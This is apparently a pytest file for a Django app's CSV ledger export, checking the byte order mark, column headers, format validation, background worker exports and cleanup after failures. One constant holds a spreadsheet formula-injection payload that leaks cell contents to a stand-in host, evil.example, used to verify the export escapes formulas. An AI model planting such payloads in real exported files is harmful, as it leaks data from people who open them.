"""Issue 13, deliverable 4: the ledger export as CSV for the largest lists, from the page, the
API and the worker: the template's columns, UTF-8 with a byte order mark (Excel in Chinese
opens it as UTF-8), formula-like text behind an apostrophe, read back unchanged."""

import csv
import io

import pytest
from django.utils import timezone

from campaign.choices import ImportStatus
from campaign.importing.reading import read_sheets
from ledger import tasks
from ledger.choices import Status
from ledger.models import LedgerExport, Problem
from ledger.tests.excel_helpers import EN, ZH
from ledger.tests.factories import problem_in, record

pytestmark = pytest.mark.django_db
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())  # the byte order mark: Excel reads UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8")[1:], newline="")))


def test_the_ledger_page_exports_csv_with_the_templates_columns(city, login):
    closed = problem_in(city, Status.CLOSED)
    client = login(city.hq)
    client.cookies["django_language"] = "en"

    response = client.get("/ledger/problems/export/?format=csv")

    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert 'filename="ledger-' in response["Content-Disposition"] and ".csv" in response["Content-Disposition"]
    rows = csv_rows(body(response))
    assert rows[0] == EN
    row = rows[1]
    assert row[0] == "1" and row[1] == closed.code and row[5] == "甲农贸市场"
    assert row[12] == "Closed" and row[14] == timezone.localdate().isoformat()


def test_the_list_page_offers_the_csv_export(city, login):
    page = login(city.hq).get("/ledger/problems/?status=assigned")
    assert b"/ledger/problems/export/?format=csv&amp;status=assigned" in page.content


def test_the_api_exports_csv_in_chinese_and_escapes_formulas(city, login):
    problem = record(city)
    Problem.objects.filter(pk=problem.pk).update(description=HYPERLINK, address="-甲路 1 号")
    client = login(city.district_lead)
    client.cookies["django_language"] = "zh-hans"

    response = client.get("/api/problems/export/?format=csv")

    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = csv_rows(body(response))
    assert rows[0] == ZH and rows[1][1] == problem.code
    # As Excel opens it: text, never a formula; as the importer reads it: the original text.
    assert rows[1][6] == "'-甲路 1 号" and rows[1][7] == "'" + HYPERLINK
    (sheet,) = read_sheets(body(client.get("/api/problems/export/?format=csv")))
    values = [value for _number, row in sheet.rows for value in row]
    assert HYPERLINK in values and "-甲路 1 号" in values


def test_an_unknown_export_format_is_refused(city, login):
    record(city)
    response = login(city.hq).get("/api/problems/export/?format=pdf")
    assert response.status_code == 400
    response = login(city.hq).get("/api/problems/export/?format=")  # not one of the documented values
    assert response.status_code == 400
    response = login(city.hq).get("/ledger/problems/export/?format=pdf")
    assert response.status_code == 302 and response["Location"] == "/ledger/problems/"
    response = login(city.hq).get("/ledger/problems/export/?format=")
    assert response.status_code == 302 and response["Location"] == "/ledger/problems/"


def test_the_api_schema_documents_the_format_parameter(city, login):
    schema = login(city.hq).get("/api/schema/", HTTP_ACCEPT="application/vnd.oai.openapi+json").json()
    operation = schema["paths"]["/api/problems/export/"]["get"]
    (parameter,) = [p for p in operation["parameters"] if p["name"] == "format"]
    assert sorted(parameter["schema"]["enum"]) == ["csv", "xlsx"]
    assert set(operation["responses"]["200"]["content"]) >= {
        "text/csv", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"}


def test_a_large_csv_export_runs_in_the_worker_and_downloads_as_csv(
        city, login, settings, monkeypatch, django_capture_on_commit_callbacks):
    settings.LEDGER_EXPORT_BACKGROUND_ROWS = 2
    for _n in range(3):
        record(city)
    monkeypatch.setattr(tasks.ledger_export_run, "delay", lambda export_id: None)
    client = login(city.hq)

    with django_capture_on_commit_callbacks(execute=True):
        api = client.get("/api/problems/export/?format=csv")
    assert api.status_code == 202
    export = LedgerExport.objects.get()
    assert export.file_format == "csv"

    assert tasks.ledger_export_run(export.pk) == ImportStatus.DONE
    export.refresh_from_db()
    assert export.file.name.endswith(".csv")
    for url in (f"/ledger/exports/{export.pk}/download/", f"/api/problems/exports/{export.pk}/file/"):
        response = client.get(url)
        assert response.status_code == 200 and response["Content-Type"].startswith("text/csv"), url
        assert ".csv" in response["Content-Disposition"]
        assert len(csv_rows(body(response))) == 4


@pytest.mark.postgres
def test_a_writer_failing_mid_export_stops_the_reader_and_closes_its_cursor(city, monkeypatch):
    import threading

    from django.db import connection

    from campaign import spreadsheets
    from ledger.transfer import export as exporting

    for _n in range(12):
        record(city)
    monkeypatch.setattr(exporting, "CHUNK_SIZE", 2)  # the reader is ahead, waiting to hand chunks on
    appended = []

    def failing_append(self, values):
        if len(appended) == 2:
            raise OSError("disk full")
        appended.append(values)

    monkeypatch.setattr(spreadsheets.XlsxStream, "append", failing_append)

    with pytest.raises(OSError):
        exporting.write_ledger(Problem.objects.all(), io.BytesIO(), language="en")

    assert len(appended) == 2
    assert not [thread for thread in threading.enumerate() if thread.name == "ledger-export-reader"]
    with connection.cursor() as cursor:
        cursor.execute("SELECT name FROM pg_cursors")
        assert cursor.fetchall() == []


def test_a_background_export_reports_progress_while_its_reader_fetches_ahead(city, monkeypatch):
    from ledger.transfer import export as exporting
    from ledger.transfer import services as transfer

    for _n in range(12):
        record(city)
    # Progress is written on the same connection the reader thread fetches through.
    monkeypatch.setattr(exporting, "CHUNK_SIZE", 2)
    monkeypatch.setattr(exporting, "PROGRESS_EVERY", 3)
    for file_format in ("xlsx", "csv"):
        export = LedgerExport.objects.create(requested_by=city.hq, filters={}, language="en", file_format=file_format)

        done = transfer.ledger_export_run(export_id=export.pk)

        assert done.status == ImportStatus.DONE, done.failure
        assert (done.total_rows, done.processed_rows) == (12, 12)
